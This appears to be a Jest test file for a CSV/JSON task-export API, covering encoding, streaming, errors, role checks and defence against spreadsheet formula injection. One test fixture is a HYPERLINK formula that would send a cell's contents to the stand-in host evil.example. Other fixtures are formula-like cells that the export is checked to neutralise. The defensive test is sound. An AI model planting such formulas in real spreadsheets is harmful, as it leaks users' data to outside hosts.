// Export: GET /export/tasks.csv and .json, and what a file holds.
import { parse } from 'csv-parse/sync';
import { TaskExportService } from '../src/import-export/task-export.service';
import { ImportFormat } from '../src/import-export/import-format';
import { TASK_COLUMNS } from '../src/import-export/task-exchange.format';
import { CREATE_TASK } from './support/admin-fixtures';
import { HEADER, importExportApp } from './support/import-export-app';
import { nodeId, TestApp, uniq } from './support/test-app';

describe('task import and export', () => {
  const io = importExportApp();
  let t: TestApp;
  beforeAll(() => {
    t = io.t;
  });
  const { tokens, newPlan, rest, exportCsv, imported } = io;

  describe('export', () => {
    it('writes CSV with a BOM, the header, one row per live task and sub-task, Chinese text intact', async () => {
      const plan = await newPlan();
      const res = await rest('GET', `/export/tasks.csv?plan=${plan.code}`);
      expect(res.statusCode).toBe(200);
      expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(res.headers['content-disposition']).toMatch(new RegExp(`^attachment; filename="${plan.code}-tasks-\\d{4}-\\d{2}-\\d{2}\\.csv"`));
      const bytes = res.rawPayload;
      expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      expect(res.body.slice(1).split('\r\n')[0]).toBe(HEADER);
      const records: Record<string, string>[] = parse(res.body, { bom: true, columns: true });
      expect(records.map((r) => r.code)).toEqual(['K-01', 'K-01-1', 'K-02', 'K-03']);
      expect(records[0]).toEqual({
        code: 'K-01',
        parentCode: '',
        areaCode: 'A1',
        title: '共建长三角科技创新共同体',
        titleEn: 'Build an innovation community',
        status: 'IN_PROGRESS',
        progress: '40',
        leadRegions: 'JS|SH',
        leadAgencies: '上海市科委|江苏省科技厅',
        startDate: '2024-01-01',
        dueDate: '2026-12-31',
        version: '1',
        latestUpdateDate: '',
      });
      expect(records[1]).toMatchObject({ parentCode: 'K-01', title: '联合攻关"卡脖子"技术, 含逗号', leadRegions: 'ZJ' });
      // A cell a spreadsheet would run as a formula is quoted with an apostrophe.
      expect(records[2]).toMatchObject({ title: "'=SUM(A1:A2) 公式样的标题", status: 'COMPLETED', progress: '100', dueDate: '2025-06-30' });
      expect(records[3]).toMatchObject({ title: '无方面任务\n第二行', areaCode: '', leadRegions: '', progress: '' });
    });

    it('writes JSON with the same columns, lists as arrays and the latest update date', async () => {
      const plan = await newPlan();
      const [{ id }] = await t.ds.query(`SELECT id FROM task WHERE plan_id = $1 AND code = 'K-01'`, [plan.id]);
      const upd = await t.gql(`mutation($i: RecordTaskUpdateInput!) { recordTaskUpdate(input: $i) { version } }`, {
        i: { taskId: nodeId('Task', id), expectedVersion: 1, progress: 50, occurredOn: '2025-03-01' },
      });
      expect(upd.errors).toBeUndefined();
      const res = await rest('GET', `/export/tasks.json?plan=${plan.code}`, tokens.ANALYST);
      expect(res.statusCode).toBe(200);
      expect(res.headers['content-type']).toBe('application/json; charset=utf-8');
      expect(res.headers['content-disposition']).toMatch(/^attachment; filename=".+\.json"/);
      const doc = JSON.parse(res.body);
      expect(doc).toMatchObject({ planCode: plan.code, columns: [...TASK_COLUMNS] });
      expect(doc.tasks).toHaveLength(4);
      expect(doc.tasks[0]).toEqual({
        code: 'K-01',
        parentCode: null,
        areaCode: 'A1',
        title: '共建长三角科技创新共同体',
        titleEn: 'Build an innovation community',
        status: 'IN_PROGRESS',
        progress: 50,
        leadRegions: ['JS', 'SH'],
        leadAgencies: ['上海市科委', '江苏省科技厅'],
        startDate: '2024-01-01',
        dueDate: '2026-12-31',
        version: 2,
        latestUpdateDate: '2025-03-01',
      });
      expect(doc.tasks[2].title).toBe('=SUM(A1:A2) 公式样的标题');
    });

    it('keeps a title with line breaks in its own row and no cell a spreadsheet would run, read with a CSV reader', async () => {
      const plan = await newPlan();
      const titles = ['\n=HYPERLINK("http://evil.example/?x="&A1,"点击")', '\r@SUM(1)', 'a\rb\nc\r\nd', ' =1+1', '\t-2', '\u200b+3'];
      for (const [i, title] of titles.entries()) {
        const res = await t.gql(CREATE_TASK, { input: { planCode: plan.code, code: `L-${i}`, title, leadAgencies: ['=危险|机构'.replace('|', '')] } });
        expect(res.errors).toBeUndefined();
      }
      const csv = await exportCsv(plan.code);
      const records: Record<string, string>[] = parse(csv, { bom: true, columns: true });
      expect(records.map((r) => r.code)).toEqual(['K-01', 'K-01-1', 'K-02', 'K-03', ...titles.map((_, i) => `L-${i}`)]);
      const formula = /^[\s\p{Cc}\p{Cf}]*[=+\-@]/u;
      for (const r of records) for (const cell of Object.values(r)) expect(cell).not.toMatch(formula);
      expect(records.slice(4).map((r) => r.title)).toEqual(titles.map((x) => `'${x}`.replace("'a", 'a')));
      expect(await imported(plan.code, csv)).toEqual({ created: 0, updated: 0, unchanged: 4 + titles.length, errors: [] });
    });

    it('reads the rows in one cursor statement on a server, in pages of 100 with one pooled connection', async () => {
      const small = await newPlan();
      const large = await newPlan();
      await t.ds.query(
        `INSERT INTO task (plan_id, code, title, search_text) SELECT $1, 'S-' || lpad(i::text, 5, '0'), '任务' || i, '任务' || i || E'\\n' FROM generate_series(1, 2500) i`,
        [large.id],
      );
      const exports = t.app.get(TaskExportService);
      const read = async (code: string, format: ImportFormat) => {
        const file = await exports.export(code, format);
        const ended = new Promise((r) => file.body.once('close', r));
        await file.body.toArray();
        await ended; // the transaction ends as the stream closes
        await new Promise((r) => setTimeout(r, 100));
      };
      // On a server: the plan lookup, the cursor's transaction with its timeout, and the rows (one statement, fetched in
      // batches). With one pooled connection (PGlite): the plan lookup and one short statement per page of 100.
      const paged = process.env.TEST_DB_KIND === 'pglite';
      for (const format of [ImportFormat.CSV, ImportFormat.JSON]) {
        expect(await t.countStatements(() => read(small.code, format))).toBe(paged ? 2 : 5);
        expect(await t.countStatements(() => read(large.code, format))).toBe(paged ? 1 + Math.ceil(2505 / 100) : 5);
      }
    });

    it('streams a large plan and gives the connection back when the client stops reading halfway', async () => {
      const plan = await newPlan();
      await t.ds.query(
        `INSERT INTO task (plan_id, code, title, search_text) SELECT $1, 'S-' || lpad(i::text, 5, '0'), '流式导出' || i, '流式导出' || i || E'\\n' FROM generate_series(1, 3000) i`,
        [plan.id],
      );
      const exports = t.app.get(TaskExportService);
      for (const format of [ImportFormat.CSV, ImportFormat.JSON, ImportFormat.CSV, ImportFormat.JSON]) {
        const file = await exports.export(plan.code, format);
        for await (const chunk of file.body) {
          expect(chunk.length).toBeGreaterThan(0);
          break; // leaving the loop destroys the stream, as a client going away does
        }
        // With the cursor closed and the connection back in the pool (of one, on PGlite), the next query runs.
        expect(await Promise.race([t.ds.query('SELECT 1 AS one'), new Promise((r) => setTimeout(() => r('stuck'), 5000))])).toEqual([{ one: 1 }]);
      }
      const json = JSON.parse((await rest('GET', `/export/tasks.json?plan=${plan.code}`)).body);
      expect(json.tasks).toHaveLength(3004);
      const empty = (await newPlan()).code;
      await t.ds.query(`UPDATE task SET archived_at = now() WHERE plan_id = (SELECT id FROM plan WHERE code = $1)`, [empty]);
      expect(JSON.parse((await rest('GET', `/export/tasks.json?plan=${empty}`)).body)).toMatchObject({ planCode: empty, tasks: [] });
      expect(parse((await rest('GET', `/export/tasks.csv?plan=${empty}`)).body, { bom: true })).toEqual([[...TASK_COLUMNS]]);
    });

    it('answers an unknown plan with 404, a missing plan with 400, as JSON errors without a stack', async () => {
      const missing = await rest('GET', `/export/tasks.csv?plan=no-such-${uniq()}`);
      expect(missing.statusCode).toBe(404);
      expect(JSON.parse(missing.body)).toEqual({
        errors: [{ message: expect.any(String), extensions: { code: 'NOT_FOUND', what: 'Plan', requestId: missing.headers['x-request-id'] } }],
      });
      for (const url of ['/export/tasks.csv', '/export/tasks.json?plan=', '/export/tasks.csv?plan=a&plan=b']) {
        const res = await rest('GET', url);
        expect(res.statusCode).toBe(400);
        expect(JSON.parse(res.body).errors[0].extensions).toMatchObject({ code: 'BAD_USER_INPUT', field: 'plan' });
        expect(res.body).not.toMatch(/\bat \S+ \(|node_modules/);
      }
    });

    it('lets ANALYST and ADMIN export and refuses anonymous, DASHBOARD and EDITOR callers', async () => {
      const plan = await newPlan();
      for (const path of ['tasks.csv', 'tasks.json']) {
        const url = `/export/${path}?plan=${plan.code}`;
        expect((await rest('GET', url, tokens.ANALYST)).statusCode).toBe(200);
        expect((await rest('GET', url)).statusCode).toBe(200);
        const anonymous = await rest('GET', url, null);
        expect(anonymous.statusCode).toBe(401);
        expect(JSON.parse(anonymous.body).errors[0].extensions.code).toBe('UNAUTHENTICATED');
        const wrongToken = await rest('GET', url, 'not-a-real-token-0123456789abcdef');
        expect(JSON.parse(wrongToken.body).errors[0].extensions.code).toBe('UNAUTHENTICATED');
        for (const role of ['DASHBOARD', 'EDITOR']) {
          const res = await rest('GET', url, tokens[role]);
          expect(res.statusCode).toBe(403);
          expect(JSON.parse(res.body)).toEqual({
            errors: [{ message: expect.any(String), extensions: { code: 'FORBIDDEN', requestId: res.headers['x-request-id'] } }],
          });
        }
      }
    });
  });
});
